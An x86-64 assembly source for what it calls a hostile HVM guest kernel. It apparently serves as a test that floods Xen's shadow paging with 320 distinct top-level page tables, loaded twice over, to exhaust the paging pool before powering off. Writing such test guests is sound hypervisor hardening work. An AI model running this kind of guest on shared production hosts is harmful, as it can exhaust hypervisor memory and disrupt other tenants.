; A hostile HVM kernel for shadow paging: it loads ever new CR3s, each a fresh
; L4 over the same L3, so that every load makes Xen build another top-level
; shadow. It loads 320 of them twice over, far more than its paging pool
; holds, counting each load in `loads`, then powers off.
;
; Tables (guest-physical): the L3 at 0x400000, the L2 at 0x401000 (eight
; 2 MiB pages: the first 16 MiB, 1:1), the L4s from 0x402000 up.

.data
.org 0x300000
loads:  .quad 0
.bss
.org 0x340000
stack:  .zero 4096
stack_top:

.text
.org 0x200000
_start:
    mov rsp, stack_top
    ; L3[0] -> L2
    mov rax, 0x401003
    mov rdi, 0x400000
    mov [rdi], rax
    ; L2: eight 2 MiB pages (P | RW | PS)
    mov rdi, 0x401000
    mov rax, 0x83
    mov rcx, 8
.fill:
    mov [rdi], rax
    add rax, 0x200000
    add rdi, 8
    dec rcx
    jnz .fill
    ; 320 L4s, entry 0 of each -> L3
    mov rdi, 0x402000
    mov rax, 0x400003
    mov rcx, 320
.l4:
    mov [rdi], rax
    add rdi, 4096
    dec rcx
    jnz .l4
    ; CR4.PAE, EFER.LME | NXE | SCE, CR3, CR0.PG | WP
    mov rax, 0x20
    mov cr4, rax
    mov ecx, 0xc0000080
    rdmsr
    or eax, 0x901
    wrmsr
    mov rax, 0x402000
    mov cr3, rax
    mov rax, cr0
    mov rdx, 0x80010001
    or rax, rdx
    mov cr0, rax
    ; the storm: every L4 in turn, twice
    mov r12, 2
.round:
    mov rbx, 0x402000
    mov rcx, 320
.next:
    mov cr3, rbx
    mov rax, [rip + loads]
    inc rax
    mov [rip + loads], rax
    add rbx, 4096
    dec rcx
    jnz .next
    dec r12
    jnz .round
    ; ACPI power-off (PM1a control)
    mov dx, 0xb004
    mov ax, 0x2000
    out dx, ax
.hang:
    jmp .hang
